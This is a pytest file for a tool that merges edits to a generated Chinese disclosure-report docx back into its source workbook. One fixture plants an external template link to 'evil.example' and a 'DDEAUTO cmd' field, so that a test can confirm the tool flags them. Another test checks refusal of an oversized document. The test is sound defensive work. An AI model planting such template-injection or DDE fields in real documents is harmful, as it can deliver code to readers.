"""From the edited document back into the workbook, and on to the next document."""

import re
import shutil
import zipfile
from functools import cache
from io import BytesIO
from itertools import product
from pathlib import Path
from random import Random

import pytest

from generator.files.zip_archive import DOCUMENT, open_archive, package
from generator.form.disclosure.edition_2021 import FORM
from generator.formats.docx.reading.body import read_body
from generator.formats.xlsx.editing.cell_edits import CellValue, edit_cells
from generator.formats.xlsx.layout import NARRATIVE_SHEET
from generator.manuscript.review.changes import Kind
from generator.manuscript.review.side import Side
from generator.model.finding import Refusal
from generator.pipeline.as_generated import Basis
from generator.pipeline.make import make
from generator.pipeline.outcome import Status
from generator.pipeline.review import Review, review
from tests.few import few
from tests.libreoffice import needs_libreoffice
from tests.opened import opened
from tests.paths import ROOT
from tests.reviewing import extras
from tests.reviewing.numbering import automatic_number
from tests.reviewing.resaved import resave
from tests.reviewing.reviewer import Kind as Edit
from tests.reviewing.reviewer import Reviewed
from tests.reviewing.reviewer import review as edit

WORKBOOK = ROOT / "inputs" / "2023.xlsx"
SEEDS = range(6)
NUMBER = re.compile(
    r"^\s*([（(][一二三四五六七八九十]+[）)]|\d{1,3}[.．、](?!\d)|[（(]\d{1,3}[）)])"
)
REQUESTS = "三、申请办理"
OWN_KINDS = {Kind.TABLE, Kind.OTHER}


@cache
def generated() -> bytes:
    return (ROOT / "outputs" / "2023.docx").read_bytes()


@pytest.fixture
def office(tmp_path: Path) -> Path:
    """Return a folder with inputs/2023.xlsx and outputs/2023.docx."""
    (tmp_path / "inputs").mkdir()
    (tmp_path / "outputs").mkdir()
    shutil.copy(WORKBOOK, tmp_path / "inputs")
    (tmp_path / "outputs" / "2023.docx").write_bytes(generated())
    return tmp_path


def document_of(office: Path) -> Path:
    return office / "outputs" / "2023.docx"


def workbook_of(office: Path) -> Path:
    return office / "inputs" / "2023.xlsx"


def reviewed(office: Path, data: bytes, *, apply: bool = False, take: Side | None = None) -> Review:
    document_of(office).write_bytes(data)
    return review(document_of(office), apply=apply, take=take)


def staff_edit(office: Path, cells: dict[tuple[str, tuple[int, int]], CellValue]) -> None:
    path = workbook_of(office)
    path.write_bytes(edit_cells(path.read_bytes(), path.name, cells))


def replaced(data: bytes, was: str, now: str, count: int = 1) -> bytes:
    """Return a document with some words of its XML replaced."""
    parts = open_archive(data, "", DOCUMENT)
    text = parts[DOCUMENT].decode()
    assert was in text
    return rezipped(data, {DOCUMENT: text.replace(was, now, count).encode()})


def rezipped(data: bytes, changed: dict[str, bytes]) -> bytes:
    content = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(content, "w") as new:
        for member in old.namelist():
            new.writestr(member, changed.get(member, old.read(member)))
    return content.getvalue()


def lines_of(data: bytes) -> list[str]:
    manuscript = read_body(open_archive(data, "", DOCUMENT), "").manuscript
    return [line.text.strip() for line in manuscript.lines]


def tables_of(data: bytes) -> list[list[str]]:
    manuscript = read_body(open_archive(data, "", DOCUMENT), "").manuscript
    return [list(grid.cells.values()) for grid in manuscript.grids]


def leading_outside(data: bytes) -> bytes:
    """Return a document with what a stranger may have put in: a template, a field that fetches."""
    relation = (
        '<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
        'TargetMode="External"/>'
    )
    parts = open_archive(data, "", DOCUMENT)
    relations, field = "word/_rels/document.xml.rels", '<w:fldSimple w:instr="DDEAUTO cmd"/>'
    return package(
        {
            **parts,
            relations: parts[relations].replace(b"</Rel", relation.encode() + b"</Rel"),
            DOCUMENT: parts[DOCUMENT].replace(b"<w:body>", f"<w:body><w:p>{field}</w:p>".encode()),
        }
    )


def expected(truth: Reviewed) -> list[str]:
    return [line.strip() for text in truth.lines for line in text.split("\n") if line.strip()]


def said(found: Review, truth: Reviewed) -> list[Kind]:
    """Return the kinds of changes reported, but for what was put in beside the report."""
    return [
        change.kind
        for change in found.comparison.changes
        if change.kind not in OWN_KINDS
        if not (change.kind == Kind.ADDED and change.now in truth.appendix)
    ]


def test_an_untouched_document_has_no_changes(office: Path) -> None:
    found = reviewed(office, generated())
    assert found.untouched
    assert found.basis == Basis.SNAPSHOT
    assert (found.comparison.changes, found.conflicts, found.leftovers) == ([], [], [])
    assert found.all_in_workbook


@pytest.mark.parametrize(("seed", "tracked"), few(product(SEEDS, (False, True, None)), 2))
def test_every_edit_is_reported_once_and_nothing_else(
    office: Path, seed: int, *, tracked: bool | None
) -> None:
    truth = edit(generated(), Random(seed), tracked=tracked)
    found = reviewed(office, truth.data)
    assert [line.text.strip() for line in found.comparison.edited.lines] == expected(truth)
    assert len(said(found, truth)) == len(truth.edits)


@pytest.mark.parametrize("seed", few(SEEDS, 1))
def test_the_next_document_says_what_the_reviewed_one_does(office: Path, seed: int) -> None:
    truth = edit(generated(), Random(1000 + seed), tracked=None)
    found = reviewed(office, truth.data, apply=True)
    if found.conflicts or found.leftovers:
        return  # what the workbook cannot hold is the subject of other tests
    made = make(workbook_of(office), output=office / "next.docx", draft=True)
    assert made.status == Status.WRITTEN
    following = (office / "next.docx").read_bytes()
    numbers_right = [NUMBER.sub("#", line) for line in lines_of(following)]
    assert numbers_right == [NUMBER.sub("#", line) for line in lines_of(truth.data)]
    assert tables_of(following) == tables_of(truth.data)


@pytest.mark.long  # of the next documents above, some are held too
def test_most_of_those_documents_can_be_written_back(office: Path) -> None:
    held = [
        seed
        for seed in SEEDS
        if reviewed(office, edit(generated(), Random(1000 + seed), tracked=None).data).conflicts
    ]
    assert len(held) < len(SEEDS) / 2


@needs_libreoffice
@pytest.mark.parametrize("way", ["docx", "odt", "doc"])
def test_libreoffice_may_save_it_again_whatever_is_in_it(tmp_path: Path, way: str) -> None:
    truths: list[Reviewed] = []
    for seed in range(8):
        rng = Random(2000 + seed)
        truth = edit(generated(), rng, tracked=None, nested=False)
        for extra in (extras.add_comment, extras.add_appendix, extras.add_table, extras.late_row):
            truth = extra(truth, rng)
        truths.append(truth)
    paths = [tmp_path / f"{number}.docx" for number in range(len(truths))]
    for path, truth in zip(paths, truths, strict=True):
        path.write_bytes(truth.data)
    again = resave(paths, way, tmp_path / "again", profile=tmp_path / "profile")
    for path, truth in zip(again, truths, strict=True):
        found = review(path, workbook=WORKBOOK)
        assert found.basis == (Basis.WORKBOOK if way == "doc" else found.basis)
        assert [line.text.strip() for line in found.comparison.edited.lines] == expected(truth)
        assert len(said(found, truth)) == len(truth.edits)
        assert [remark.text for remark in found.comparison.edited.remarks] == [
            comment.text for comment in truth.comments
        ]


def test_automatic_numbers_read_as_they_show(office: Path) -> None:
    truth = automatic_number(edit(generated(), Random(5)), Random(5))
    found = reviewed(office, truth.data)
    assert [line.text.strip() for line in found.comparison.edited.lines] == expected(truth)
    assert len(said(found, truth)) == len(truth.edits)


def test_who_and_when_are_told_where_tracked_changes_tell(office: Path) -> None:
    truth = edit(generated(), Random(3), kinds=[Edit.CHANGE_FIGURE], count=1, tracked=True)
    (change,) = reviewed(office, truth.data).comparison.changes
    assert change.kind == Kind.FIGURE
    assert [who for who, _ in change.by] == [truth.edits[0].author]


def test_only_the_cells_concerned_are_written(office: Path) -> None:
    before = workbook_of(office).read_bytes()
    data = replaced(generated(), "予以公开", "全部予以公开")
    found = reviewed(office, data, apply=True)
    assert (found.cells, found.applied) == (1, True)
    assert found.kept is not None
    assert found.kept.read_bytes() == before
    old, new = (
        zipfile.ZipFile(BytesIO(content)) for content in (before, workbook_of(office).read_bytes())
    )
    assert old.namelist() == new.namelist()
    assert len([part for part in old.namelist() if old.read(part) != new.read(part)]) == 1


def test_words_left_alone_go_on_citing_their_figure(office: Path) -> None:
    data = replaced(generated(), "共受理信息公开申请", "一共收到信息公开申请")
    reviewed(office, data, apply=True)
    rows = review(document_of(office)).merge
    assert rows is not None
    (text,) = [row.text for row in rows.report.paragraphs if "一共收到信息公开申请" in row.text]
    assert "一共收到信息公开申请【本年新收】" in text


def test_a_figure_changed_in_the_table_is_changed_in_the_workbook(office: Path) -> None:
    layout_cell = (REQUESTS, (7, 4))
    found = reviewed(office, with_figure(generated(), "本年新收自然人", "7"), apply=True)
    assert [change.kind for change in found.comparison.changes] == [Kind.FIGURE]
    assert found.merge is not None
    assert found.merge.report.figures["本年新收自然人"].printed == "7"
    assert layout_cell[0] == found.merge.report.figures["本年新收自然人"].place.within
    assert any(finding.rule == "T3-01" for finding in found.findings)


def with_figure(data: bytes, name: str, value: str) -> bytes:
    """Return a document with the figure of one cell typed over."""
    from lxml import etree

    from generator.form.tables_in_grids import find_figures
    from generator.formats.docx.reading.tables import cells_of

    word = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
    root = etree.fromstring(open_archive(data, "", DOCUMENT)[DOCUMENT])
    tables = [cells_of(table) for table in root.iter(f"{word}tbl")]
    texts = [
        {spot: "".join(map(str, cell.itertext())) for spot, cell in cells.items()}
        for cells in tables
    ]
    at, spot = find_figures(texts, FORM).spots[name]
    (text,) = tables[at][spot].iter(f"{word}t")
    text.text = value
    return rezipped(data, {DOCUMENT: etree.tostring(root)})


def test_a_number_changed_in_the_text_alone_is_a_conflict_with_the_table(office: Path) -> None:
    before = workbook_of(office).read_bytes()
    data = replaced(generated(), "信息公开申请5件", "信息公开申请6件")
    found = reviewed(office, data, apply=True)
    assert [conflict.what for conflict in found.conflicts] != []
    assert "6" in found.conflicts[0].what
    assert workbook_of(office).read_bytes() == before
    taken = review(document_of(office), take=Side.DOCUMENT, apply=True)
    assert (taken.conflicts, taken.applied) == ([], True)


def test_what_both_sides_changed_alike_is_no_conflict(office: Path) -> None:
    data = with_figure(generated(), "本年新收自然人", "7")
    staff_edit(office, {(REQUESTS, (7, 4)): 7})
    found = reviewed(office, data)
    assert (found.conflicts, found.cells, found.all_in_workbook) == ([], 0, True)


def test_what_both_sides_changed_differently_is_left_to_people(office: Path) -> None:
    data = with_figure(generated(), "本年新收自然人", "7")
    staff_edit(office, {(REQUESTS, (7, 4)): 8})
    before = workbook_of(office).read_bytes()
    found = reviewed(office, data, apply=True)
    assert [(one.base, one.workbook, one.document) for one in found.conflicts] == [("5", "8", "7")]
    assert workbook_of(office).read_bytes() == before
    review(document_of(office), take=Side.WORKBOOK, apply=True)
    assert workbook_of(office).read_bytes() == before
    taken = review(document_of(office), take=Side.DOCUMENT, apply=True)
    assert taken.applied
    assert review(document_of(office)).all_in_workbook


def test_what_the_workbook_alone_changed_stays(office: Path) -> None:
    data = replaced(generated(), "予以公开", "全部予以公开")
    staff_edit(office, {(REQUESTS, (7, 4)): 8})
    found = reviewed(office, data, apply=True)
    assert found.merge is not None
    assert found.merge.report.figures["本年新收自然人"].printed == "8"
    assert found.conflicts == []


def test_without_a_base_nothing_is_written_unless_a_side_is_taken(office: Path) -> None:
    truth = edit(generated(), Random(9), kinds=[Edit.REWORD], count=1)
    data = extras.strip_provenance(truth, Random(9)).data
    staff_edit(office, {(REQUESTS, (8, 4)): 0})
    before = workbook_of(office).read_bytes()
    found = reviewed(office, data, apply=True)
    assert found.basis == Basis.UNKNOWN
    assert found.conflicts
    assert workbook_of(office).read_bytes() == before
    assert review(document_of(office), take=Side.DOCUMENT, apply=True).applied


def test_without_a_base_and_a_workbook_nothing_can_be_told(office: Path) -> None:
    truth = edit(generated(), Random(9), kinds=[Edit.REWORD], count=1)
    workbook_of(office).unlink()
    with pytest.raises(Refusal, match="--workbook"):
        reviewed(office, extras.strip_provenance(truth, Random(9)).data)


def test_a_workbook_that_is_open_is_not_written(office: Path) -> None:
    workbook_of(office).with_name("~$2023.xlsx").touch()
    before = workbook_of(office).read_bytes()
    with pytest.raises(Refusal, match="打开"):
        reviewed(office, replaced(generated(), "予以公开", "全部予以公开"), apply=True)
    assert workbook_of(office).read_bytes() == before


def test_a_narrative_without_room_is_told_and_not_written(office: Path) -> None:
    spare = {(NARRATIVE_SHEET, (row, 4)): f"占位{row}。" for row in range(5, 130)}
    staff_edit(office, dict(spare))
    before = workbook_of(office).read_bytes()
    truth = edit(generated(), Random(2), kinds=[Edit.INSERT_PARAGRAPH], count=1)
    found = reviewed(office, truth.data, apply=True)
    assert not found.applied
    assert found.leftovers or found.conflicts
    assert workbook_of(office).read_bytes() == before


def test_an_edited_document_is_never_replaced_before_its_edits_are_in_the_workbook(
    office: Path,
) -> None:
    truth = extras.add_comment(edit(generated(), Random(7), kinds=[Edit.REWORD]), Random(7))
    document_of(office).write_bytes(truth.data)
    held = make(workbook_of(office))
    assert held.status == Status.EDITED
    assert held.review is not None
    assert len(held.review.comparison.changes) == len(truth.edits)
    assert document_of(office).read_bytes() == truth.data
    review(document_of(office), apply=True)
    made = make(workbook_of(office))
    assert made.status == Status.WRITTEN
    assert made.kept is not None
    assert made.kept.read_bytes() == truth.data
    assert made.review is not None
    assert [remark.text for remark in made.review.comparison.edited.remarks] == [
        comment.text for comment in truth.comments
    ]
    assert make(workbook_of(office)).status == Status.CURRENT


def test_what_no_workbook_can_hold_keeps_the_document(office: Path) -> None:
    truth = extras.add_table(edit(generated(), Random(8), kinds=[Edit.REWORD]), Random(8))
    found = reviewed(office, truth.data, apply=True)
    assert found.applied
    assert found.leftovers
    assert make(workbook_of(office)).status == Status.EDITED


def test_what_was_changed_without_tracking_is_told_apart(office: Path) -> None:
    data = replaced(generated(), "予以公开", "全部予以公开")
    truth = edit(data, Random(6), kinds=[Edit.CHANGE_FIGURE], count=1, tracked=True)
    found = reviewed(office, truth.data)
    assert len(found.comparison.changes) == 2
    assert [change.kind for change in found.untracked] == [Kind.REWORDED]
    plain = reviewed(office, data)
    assert (len(plain.comparison.changes), plain.untracked) == (1, [])


def test_a_draft_of_a_workbook_without_a_table_can_be_reviewed(office: Path) -> None:
    book = opened(workbook_of(office).read_bytes())
    del book["二、主动公开"]
    book.save(workbook_of(office))
    make(workbook_of(office), output=document_of(office), draft=True, force=True)
    found = reviewed(office, document_of(office).read_bytes())
    assert (found.comparison.changes, found.cells) == ([], 0)


def test_what_must_not_be_published_with_a_document_is_told(office: Path) -> None:
    assert reviewed(office, generated()).foreign == []
    assert set(reviewed(office, leading_outside(generated())).foreign) == {
        "域“DDEAUTO cmd”（内部文件 word/document.xml）",
        "附加的模板（指向 http://evil.example/t.dotm）（内部文件 word/_rels/document.xml.rels）",
    }


@pytest.mark.parametrize("xml", ["<w:altChunk/>", "<w:p><w:subDoc/></w:p>"])
def test_content_that_cannot_be_read_is_told_and_keeps_the_document(office: Path, xml: str) -> None:
    changed = replaced(generated(), "<w:sectPr", f"{xml}<w:sectPr")
    found = reviewed(office, changed)
    assert [change.kind for change in found.comparison.changes] == [Kind.OTHER]
    assert "程序读不到" in found.leftovers[0].what
    assert not found.all_in_workbook
    assert make(workbook_of(office)).status == Status.EDITED
    assert document_of(office).read_bytes() == changed


def test_a_document_that_would_exhaust_the_machine_is_refused(office: Path) -> None:
    with pytest.raises(Refusal, match=r"多得不正常.*只保留文本"):
        reviewed(office, replaced(generated(), "<w:sectPr", "<w:p/>" * 60_000 + "<w:sectPr"))
